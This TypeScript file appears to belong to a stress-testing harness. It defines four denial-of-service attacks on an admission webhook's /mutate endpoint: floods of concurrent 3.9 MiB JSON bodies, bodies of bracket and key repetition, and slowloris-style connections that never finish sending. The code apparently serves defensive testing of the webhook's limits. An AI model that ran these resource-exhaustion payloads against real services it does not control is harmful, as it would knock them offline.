import type { Attack, Target } from '../attack.ts';
import { openMany, sleep } from '../hostile.ts';

/** Just below what the webhook takes. */
const BODY_BYTES = 3.9 * 1024 * 1024;
const LAST_MS = 10_000;

export const webhookBodies: Attack = {
  name: 'webhook-bodies',
  victim: 'webhook',
  what: 'webhook: 100 AdmissionReviews of 3.9 MiB at the same time, again and again',
  run: (target) => callAgain(target, 100, bodyOf(`{"x":"${'x'.repeat(BODY_BYTES - 20)}"}`)),
};

export const webhookBrackets: Attack = {
  name: 'webhook-brackets',
  victim: 'webhook',
  what: 'webhook: 20 bodies of 3.9 MiB of `{}` at the same time, again and again',
  run: (target) => callAgain(target, 20, bodyOf(`[${'{},'.repeat(BODY_BYTES / 3 - 2)}{}]`)),
};

export const webhookValues: Attack = {
  name: 'webhook-values',
  victim: 'webhook',
  what: 'webhook: 20 bodies of 3.9 MiB with as many values as are read, again and again',
  run: (target) => {
    const key = 'k'.repeat(26);
    const values = Array.from({ length: 99_000 }, (_, i) => `"${key}${i}":{}`.padEnd(40));
    return callAgain(target, 20, bodyOf(`{${values.slice(0, 49_500).join(',')}}`));
  },
};

export const webhookSlowBodies: Attack = {
  name: 'webhook-slow-bodies',
  victim: 'webhook',
  what: 'webhook: 250 bodies of 3.9 MiB that arrive slowly and never end',
  run: async (target) => {
    const sockets = await openMany(target, 250);
    const body = bodyOf('x'.repeat(BODY_BYTES));
    const until = performance.now() + LAST_MS;
    for (let at = 0; performance.now() < until && at < body.length - 64 * 1024; at += 64 * 1024) {
      for (const socket of sockets) if (!socket.destroyed) socket.write(body.subarray(at, at + 64 * 1024));
      await sleep(200);
    }
  },
};

function bodyOf(text: string): Buffer {
  const head = ['POST /mutate HTTP/1.1', 'Host: x', 'Content-Type: application/json'];
  return Buffer.from(`${head.join('\r\n')}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`);
}

/** Each on a connection of its own, and once more when all have been answered, or nobody is any more. */
async function callAgain(target: Target, count: number, call: Buffer): Promise<void> {
  const until = performance.now() + LAST_MS;
  while (performance.now() < until) {
    const sockets = await openMany(target, count);
    const answers = sockets.map(
      (socket) =>
        new Promise((resolve) => {
          socket.once('data', resolve).once('close', resolve);
          socket.write(call);
        }),
    );
    await Promise.race([Promise.all(answers), sleep(LAST_MS)]);
    for (const socket of sockets) socket.destroy();
  }
}
